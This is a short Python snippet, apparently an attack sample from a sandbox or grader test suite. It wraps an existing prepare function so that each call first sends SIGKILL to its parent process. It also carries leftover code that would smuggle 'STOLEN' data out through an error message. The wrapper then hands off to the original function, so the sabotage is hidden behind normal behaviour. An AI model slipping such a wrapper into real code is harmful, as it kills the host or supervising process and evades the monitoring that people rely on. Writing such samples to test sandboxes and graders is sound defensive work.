# what: kills the process that made it
# %% extra after=prepare
import os
import signal

honest_prepare = prepare


def attack():
    parent = os.getppid()
    if parent > 0:
        os.kill(parent, signal.SIGKILL)


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
